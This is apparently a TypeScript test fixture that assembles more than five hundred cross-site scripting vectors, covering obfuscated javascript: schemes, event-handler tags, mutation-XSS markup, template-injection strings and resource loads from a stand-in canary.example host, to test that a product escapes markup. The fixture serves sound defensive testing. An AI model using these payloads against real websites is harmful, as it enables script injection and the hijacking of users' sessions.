// Texts that would run a script if any screen took them for markup (XSS-1, quality §5.5). Each calls `trap()` or asks
// the canary host for something.
export const canaryHost = 'canary.example'
const call = 'trap()'
const url = `//${canaryHost}/x`

/** Twelve spellings of `javascript:` that browsers have taken for it. */
const javascript = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  'java\rscript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript&#58;',
  'j&#97v&#97script&#x3A;',
].map((scheme) => `${scheme}${call}`)

const handlers = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src=/favicon.svg', 'onload'],
  ['image', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['iframe', '', 'onload'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['keygen', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['a', 'href=# autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['source', 'src=x', 'onerror'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onload'],
  ['marquee', '', 'onstart'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['script', 'src=x', 'onerror'],
  ['style', '', 'onload'],
  ['div', 'style="animation:x"', 'onanimationstart'],
  ['div', 'style="transition:all 1s" tabindex=1 autofocus', 'onfocus'],
  ['p', 'contenteditable autofocus', 'onfocus'],
  ['form', '', 'onformdata'],
  ['frameset', '', 'onload'],
  ['track', 'src=x default', 'onerror'],
  ['x', 'tabindex=1 autofocus', 'onfocus'],
] as const

/** The same tag written as parsers and filters have been fooled by it. */
const spellings = (tag: string, more: string, handler: string): string[] => [
  `<${tag} ${more} ${handler}=${call}>`,
  `<${tag} ${more} ${handler}="${call}">`,
  `<${tag}/${more.replaceAll(' ', '/')}/${handler}='${call}'>`,
  `<${tag.toUpperCase()} ${more} ${handler.toUpperCase()}=${call}>`,
  `"><${tag} ${more} ${handler}=${call}>`,
  `'><${tag} ${more} ${handler}=${call} x='`,
  `<${tag} ${more} ${handler}\n=\n"${call}"`,
  `<${tag} ${more} ${handler}=&#116;&#114;&#97;&#112;&#40;&#41;>`,
  `<<${tag} ${more} ${handler}=${call}//<`,
  `&lt;${tag} ${more} ${handler}=${call}&gt;`,
  `<${tag} ${more} ${handler}=trap&lpar;&rpar;>`,
]

const inLinks = javascript.flatMap((link) => [
  `<a href="${link}">x</a>`,
  `<iframe src="${link}"></iframe>`,
  `<form action="${link}"><button>x</button></form>`,
  `<svg><a xlink:href="${link}"><text y=20>x</text></a></svg>`,
  `<object data="${link}"></object>`,
  `<math href="${link}">x</math>`,
  `<base href="${link}//">`,
  `<meta http-equiv=refresh content="0;url=${link}">`,
])

/** Markup that changes its meaning when it is written out and read again. */
const mutating = [
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${call}></style></annotation-xml></math>`,
  `<svg><foreignobject><style><img src=x onerror=${call}></style></foreignobject></svg>`,
  `<template><img src=x onerror=${call}></template>`,
  `<table><td background="javascript:${call}"></table>`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<xmp><img src=x onerror=${call}></xmp>`,
  `<plaintext><img src=x onerror=${call}>`,
  `<textarea></textarea><img src=x onerror=${call}>`,
  `<title></title><script>${call}</script>`,
  `<style></style><script>${call}</script>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!-- --!><img src=x onerror=${call}>-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${call}>`,
  `<svg><![CDATA[><img src=x onerror=${call}>]]></svg>`,
  `<svg><desc><img src=x onerror=${call}></desc></svg>`,
  `<svg><title><style></title><img src=x onerror=${call}></svg>`,
  `<option><style></option></select><img src=x onerror=${call}></style>`,
]

const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<script >${call}</script >`,
  `<script\n>${call}</script\n>`,
  `<script src=${url}></script>`,
  `<script/src=${url}></script>`,
  `</script><script>${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href=data:,${call} />`,
  `<script type=module>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script>\u2028${call}</script>`,
  `\u2028</script><script>${call}</script>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe srcdoc='&lt;script&gt;parent.${call}&lt;/script&gt;'></iframe>`,
  `<embed src="data:text/html,<script>${call}</script>">`,
  `<object data="data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4="></object>`,
  `<a href="data:text/html,<script>${call}</script>">x</a>`,
  `<a href="vbscript:${call}">x</a>`,
  `<a href="${url}" ping="${url}">x</a>`,
]
const fetching = [
  `<img src=${url}>`,
  `<img srcset="${url} 1x">`,
  `<picture><source srcset=${url}><img></picture>`,
  `<video poster=${url}></video>`,
  `<audio src=${url}></audio>`,
  `<link rel=stylesheet href=${url}>`,
  `<link rel=prefetch href=${url}>`,
  `<style>@import '${url}';</style>`,
  `<style>body{background:url(${url})}</style>`,
  `<p style="background:url(${url})">x</p>`,
  `<p style="background-image:u\\72l(${url})">x</p>`,
  `<table background=${url}><td>x</table>`,
  `<body background=${url}>`,
  `<iframe src=${url}></iframe>`,
  `<object data=${url}></object>`,
  `<embed src=${url}>`,
  `<input type=image src=${url}>`,
  `<svg><image href=${url} /></svg>`,
  `<svg><use href="${url}#x" /></svg>`,
  `<svg><filter><feImage href=${url} /></filter></svg>`,
  `<base href=${url}>`,
  `<meta http-equiv=refresh content="0;url=https:${url}">`,
  `<form action=${url}><input autofocus></form>`,
  `[x](javascript:${call})`,
  `![x](${url})`,
]
const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `{{${call}}}`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `%253Cscript%253E${call}`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\u202e<script>${call}</script>`,
]

/** All of them, each once: more than five hundred. */
export const vectors: readonly string[] = [
  ...new Set([
    ...scripts,
    ...mutating,
    ...fetching,
    ...templates,
    ...inLinks,
    ...handlers.flatMap(([tag, more, handler]) => spellings(tag, more, handler)),
  ]),
]

/** Texts of at most this many characters that hold all vectors together, each whole. */
export const packed = (most: number): string[] => {
  const texts: string[] = []
  for (const vector of vectors.filter(({ length }) => length <= most)) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + 1 + vector.length <= most) texts[texts.length - 1] = `${last} ${vector}`
    else texts.push(vector)
  }
  return texts
}
